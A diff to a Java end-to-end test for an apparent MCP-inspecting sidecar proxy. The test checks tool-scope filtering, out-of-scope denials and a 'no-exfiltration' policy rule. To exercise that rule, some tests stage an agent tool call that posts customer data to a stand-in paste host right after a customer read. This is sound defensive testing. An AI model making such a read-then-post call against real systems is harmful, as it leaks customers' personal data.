@@ -38,6 +38,8 @@ import dev.tollgate.api.wire.Json;
 import dev.tollgate.api.wire.TaskSpec;
 import dev.tollgate.controlplane.TestControlPlane;
 import dev.tollgate.proxy.config.ConfigLoader;
+import dev.tollgate.proxy.inspect.InspectionReason;
+import dev.tollgate.proxy.metrics.Direction;
 import dev.tollgate.proxy.support.ControlPlaneSidecars;
 import dev.tollgate.proxy.support.Mesh;
 import dev.tollgate.proxy.support.Tools;
@@ -46,7 +48,9 @@ import dev.tollgate.proxy.support.Tools;
  * An MCP client and server that Tollgate did not write — the official MCP TypeScript SDK's {@code Client} +
  * {@code StreamableHTTPClientTransport} and {@code McpServer} + {@code StreamableHTTPServerTransport}, stateful
  * sessions ({@code src/test/mcp}) — talking through an agent's sidecar and a tool's sidecar, both joined to a real
- * control plane by join token, over real mTLS, with a task token from that control plane.
+ * control plane by join token, over real mTLS, with a task token from that control plane. Both sidecars inspect MCP
+ * ({@code inspection: mcp}); the policy ({@code src/test/mcp/policy.yaml}) comes from a file, as configured in
+ * production. What is asserted is what the SDK hands to the application: results, and the errors it surfaces.
  */
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
 class McpSdkEndToEndTest {
@@ -60,7 +64,12 @@ class McpSdkEndToEndTest {
     NodeServer server;
     final List<Sidecar> sidecars = new ArrayList<>();
     Sidecar tool;
+    /** The agent's sidecar without a policy: only the task scope is checked. */
     Sidecar agent;
+    /** The agent's sidecar with policy.yaml (policy.file). */
+    Sidecar enforcing;
+    /** The agent's sidecar with policy.yaml in dry-run mode. */
+    Sidecar dryRun;
 
     /** Why the test cannot run here, or null. */
     String missing;
@@ -83,8 +92,17 @@ class McpSdkEndToEndTest {
         server = NodeServer.start();
 
         tool = sidecar("tool", TOOL, "listeners:\n  ingress: {address: \"127.0.0.1:0\"}\napp: \"127.0.0.1:"
-                + server.port() + "\"\nidentity:\n  allow: [\"" + AGENT + "\"]\n");
-        agent = sidecar("agent", AGENT, agentYaml(""));
+                + server.port() + "\"\ningress: {inspection: mcp}\nidentity:\n  allow: [\"" + AGENT + "\"]\n");
+        agent = sidecar("agent", AGENT, agentYaml());
+        Path policy = MCP.resolve("policy.yaml").toAbsolutePath();
+        enforcing = sidecar("agent-enforce", AGENT, agentYaml() + "policy:\n  file: \"" + policy + "\"\n");
+        String enforced = Files.readString(policy);
+        String dryRunText = enforced.replace("mode: enforce", "mode: dry-run");
+        assertThat(dryRunText).isNotEqualTo(enforced);
+        Path dryRunPolicy = dir.resolve("policy-dry-run.yaml");
+        Files.writeString(dryRunPolicy, dryRunText);
+        dryRun = sidecar("agent-dry-run", AGENT, agentYaml() + "policy:\n  file: \"" + dryRunPolicy + "\"\n");
+        assertThat(enforcing.policySource().current().orElseThrow().version()).isEqualTo("mcp-example.1");
     }
 
     @BeforeEach
@@ -93,14 +111,17 @@ class McpSdkEndToEndTest {
     }
 
     /** The agent's sidecar: egress on loopback, /mcp to the tool's sidecar, which serves the three tools. */
-    private String agentYaml(String upstreamExtra) {
+    private String agentYaml() {
         return "listeners:\n  egress: {address: \"127.0.0.1:0\"}\nupstreams:\n  workbench:\n    address: \"127.0.0.1:"
                 + tool.ingressAddress().orElseThrow().getPort() + "\"\n    spiffe-id: \"" + TOOL + "\"\n"
-                + "    match: {path-prefix: /mcp}\n" + upstreamExtra
+                + "    match: {path-prefix: /mcp}\n    inspection: mcp\n"
                 + "credentials:\n  upstream-tools:\n    workbench: [" + String.join(", ", TOOLS) + "]\n";
     }
 
-    /** A sidecar joined to the control plane with a fresh join token; returns once it is ready and synced. */
+    /**
+     * A sidecar configured the production way (a join token, its policy from a file), nothing wired in code; returns
+     * once it is ready, its credential state synced and its policy (if any) loaded.
+     */
     private Sidecar sidecar(String name, SpiffeId id, String yaml) throws Exception {
         Path file = dir.resolve(name + ".yaml");
         Mesh.write(file, yaml + "control-plane:\n" + ControlPlaneSidecars.joining(cp, dir, name, id)
@@ -109,7 +130,7 @@ class McpSdkEndToEndTest {
         sidecars.add(0, s);
         s.start();
         await().atMost(Duration.ofSeconds(30)).until(() -> s.ready()
-                && s.credentials().map(c -> !c.state().stale()).orElse(false));
+                && s.credentials().map(c -> !c.state().stale()).orElse(false) && !s.policySource().unavailable());
         return s;
     }
 
@@ -149,14 +170,15 @@ class McpSdkEndToEndTest {
                 .isNotBlank();
         assertThat(out.get(0).path("server").path("name").asText()).isEqualTo("tollgate-e2e-tools");
         assertThat(out.get(1).path("ok").asBoolean()).as(out.get(1).toString()).isTrue();
-        assertThat(names(out.get(1).path("tools"))).contains("crm.read_customer", "web.post");
+        assertThat(names(out.get(1).path("tools"))).as("tools/list is filtered to the task's scope")
+                .containsExactly("crm.read_customer", "web.post");
         assertThat(resultText(out.get(2))).isEqualTo("{\"id\":\"c-42\",\"name\":\"Customer c-42\","
                 + "\"email\":\"c-42@example.com\"}");
         assertThat(resultText(out.get(3))).isEqualTo("{\"posted\":\"https://example.com/x\",\"bytes\":5}");
         assertThat(out.get(4).path("op").asText()).isEqualTo("terminateSession");
         assertThat(out.get(4).path("ok").asBoolean()).as(out.get(4).toString()).isTrue();
 
-        List<JsonNode> calls = server.calls().subList(seen, server.calls().size());
+        List<JsonNode> calls = since(seen);
         assertThat(calls).extracting(c -> c.path("call").asText()).containsExactly("crm.read_customer", "web.post");
         assertThat(calls).extracting(c -> c.path("session").asText()).containsOnly(out.get(0).path("sessionId")
                 .asText());
@@ -169,21 +191,92 @@ class McpSdkEndToEndTest {
     }
 
     @Test
+    void theServerItselfListsEveryToolItServes() throws Exception {
+        List<JsonNode> out = client("http://127.0.0.1:" + server.port() + "/mcp", null, listTools());
+
+        assertThat(names(out.get(1).path("tools"))).as("what the sidecars filter out of tools/list")
+                .containsExactly("crm.read_customer", "web.post", "notes.write");
+    }
+
+    @Test
+    void aToolOutsideTheScopeIsAnErrorTheSdkSurfacesWithItsReasonAndTheSessionGoesOn() throws Exception {
+        String token = task("crm.read_customer", "web.post");
+        int seen = server.calls().size();
+        double denied = agent.metrics().inspectionCount(Direction.EGRESS, InspectionReason.TOOL_NOT_IN_SCOPE);
+
+        List<JsonNode> out = client(egressUrl(agent), token, call("notes.write", "text", "remember this"),
+                call("crm.read_customer", "id", "c-7"));
+
+        JsonNode data = rpcDenial(out.get(1), 403, -32003, 1);
+        assertThat(data.path("error").asText()).isEqualTo("insufficient_scope");
+        assertThat(data.path("reason").asText()).isEqualTo("tool_not_in_scope");
+        assertThat(resultText(out.get(2))).contains("\"id\":\"c-7\"");
+        assertThat(since(seen)).extracting(c -> c.path("call").asText()).containsExactly("crm.read_customer");
+        assertThat(agent.metrics().inspectionCount(Direction.EGRESS, InspectionReason.TOOL_NOT_IN_SCOPE))
+                .as("denied by the agent's own sidecar, before the call left").isEqualTo(denied + 1);
+    }
+
+    @Test
     void withoutATokenTheSdkSurfacesTheCredentialDenialAndNothingReachesTheServer() throws Exception {
         int seen = server.calls().size();
 
         List<JsonNode> out = client(egressUrl(agent), null, call("crm.read_customer", "id", "c-1"));
 
-        assertThat(out).hasSize(1);
-        JsonNode connect = out.get(0);
-        assertThat(connect.path("op").asText()).isEqualTo("connect");
-        assertThat(connect.path("ok").asBoolean()).isFalse();
-        JsonNode error = connect.path("error");
-        assertThat(error.path("code").asInt()).as(error.toString()).isEqualTo(401);
-        JsonNode body = deniedBody(error);
-        assertThat(body.path("error").asText()).isEqualTo("credential_required");
-        assertThat(body.path("reason").asText()).isEqualTo("missing");
+        assertThat(out).as("a failed connect ends the run").hasSize(1);
+        assertThat(out.get(0).path("op").asText()).isEqualTo("connect");
+        JsonNode data = rpcDenial(out.get(0), 401, -32001, 0);
+        assertThat(data.path("error").asText()).isEqualTo("credential_required");
+        assertThat(data.path("reason").asText()).isEqualTo("missing");
         assertThat(server.calls()).hasSize(seen);
+    }
+
+    @Test
+    void theNoExfiltrationRuleDeniesAPostAfterACustomerReadOfTheSameTask() throws Exception {
+        int seen = server.calls().size();
+        double denied = enforcing.metrics().inspectionCount(Direction.EGRESS, InspectionReason.TRANSITION_FORBIDDEN);
+
+        List<JsonNode> out = client(egressUrl(enforcing), task("crm.read_customer", "web.post"),
+                call("crm.read_customer", "id", "c-9"), call("web.post", "url", "https://paste.example/x",
+                        "body", "Customer c-9"));
+
+        assertThat(resultText(out.get(1))).contains("\"id\":\"c-9\"");
+        JsonNode data = rpcDenial(out.get(2), 403, -32003, 2);
+        assertThat(data.path("error").asText()).isEqualTo("insufficient_scope");
+        assertThat(data.path("reason").asText()).isEqualTo("transition_forbidden");
+        assertThat(data.path("rule").asText()).isEqualTo("no-exfiltration");
+        assertThat(data.path("after").path("tool").asText()).isEqualTo("crm.read_customer");
+        assertThat(data.path("after").path("index").asInt()).isZero();
+        assertThat(since(seen)).extracting(c -> c.path("call").asText()).containsExactly("crm.read_customer");
+        assertThat(enforcing.metrics().inspectionCount(Direction.EGRESS, InspectionReason.TRANSITION_FORBIDDEN))
+                .isEqualTo(denied + 1);
+
+        // the rule is about the order within a task: a post before the read is allowed
+        List<JsonNode> other = client(egressUrl(enforcing), task("crm.read_customer", "web.post"),
+                call("web.post", "url", "https://example.com/status", "body", "ok"), call("crm.read_customer",
+                        "id", "c-9"));
+        assertThat(resultText(other.get(1))).contains("\"posted\"");
+        assertThat(resultText(other.get(2))).contains("\"id\":\"c-9\"");
+    }
+
+    @Test
+    void inDryRunTheSamePostIsAllowedAndCountedAsAWouldBeDenial() throws Exception {
+        int seen = server.calls().size();
+        double hits = dryRun.metrics().inspectionDryRunCount(Direction.EGRESS, InspectionReason.TRANSITION_FORBIDDEN);
+
+        List<JsonNode> out = client(egressUrl(dryRun), task("crm.read_customer", "web.post"),
+                call("crm.read_customer", "id", "c-9"), call("web.post", "url", "https://paste.example/x",
+                        "body", "Customer c-9"));
+
+        assertThat(resultText(out.get(1))).contains("\"id\":\"c-9\"");
+        assertThat(resultText(out.get(2))).isEqualTo("{\"posted\":\"https://paste.example/x\",\"bytes\":12}");
+        assertThat(since(seen)).extracting(c -> c.path("call").asText()).containsExactly("crm.read_customer",
+                "web.post");
+        assertThat(dryRun.metrics().inspectionDryRunCount(Direction.EGRESS, InspectionReason.TRANSITION_FORBIDDEN))
+                .isEqualTo(hits + 1);
+    }
+
+    private List<JsonNode> since(int seen) {
+        return List.copyOf(server.calls().subList(seen, server.calls().size()));
     }
 
     // ---- steps, results and denials -----------------------------------------------------------------------
@@ -217,14 +310,28 @@ class McpSdkEndToEndTest {
     }
 
     /**
-     * The denial body inside the error the SDK surfaced: on a non-2xx answer the SDK's transport raises a
-     * {@code StreamableHTTPError} whose {@code code} is the HTTP status and whose message ends with the body.
+     * The {@code error.data} of the JSON-RPC error a sidecar denied a request with, as the SDK surfaced it: on a
+     * non-2xx answer the SDK's transport raises a {@code StreamableHTTPError} whose {@code code} is the HTTP status
+     * and whose message ends with the body, here a JSON-RPC error carrying the request's id. The SDK numbers its
+     * requests 0 ({@code initialize}), 1, 2, ... in the order it sends them.
      */
-    static JsonNode deniedBody(JsonNode error) throws IOException {
+    static JsonNode rpcDenial(JsonNode line, int status, int rpcCode, int id) throws IOException {
+        assertThat(line.path("ok").asBoolean()).as(line.toString()).isFalse();
+        JsonNode error = line.path("error");
+        assertThat(error.path("name").asText()).as(line.toString()).isEqualTo("StreamableHTTPError");
+        assertThat(error.path("code").asInt()).as(line.toString()).isEqualTo(status);
         String message = error.path("message").asText();
         int start = message.indexOf('{');
         assertThat(start).as("a JSON body in: " + message).isNotNegative();
-        return Json.mapper().readTree(message.substring(start));
+        JsonNode body = Json.mapper().readTree(message.substring(start));
+        assertThat(body.path("jsonrpc").asText()).as(message).isEqualTo("2.0");
+        assertThat(body.path("id").isIntegralNumber()).as("the request's id, as the SDK sent it: " + message).isTrue();
+        assertThat(body.path("id").asInt()).as(message).isEqualTo(id);
+        assertThat(body.path("error").path("code").asInt()).as(message).isEqualTo(rpcCode);
+        JsonNode data = body.path("error").path("data");
+        assertThat(body.path("error").path("message").asText()).isEqualTo(data.path("error").asText() + ": "
+                + data.path("reason").asText());
+        return data;
     }
 
     // ---- the Node processes ---------------------------------------------------------------------------------
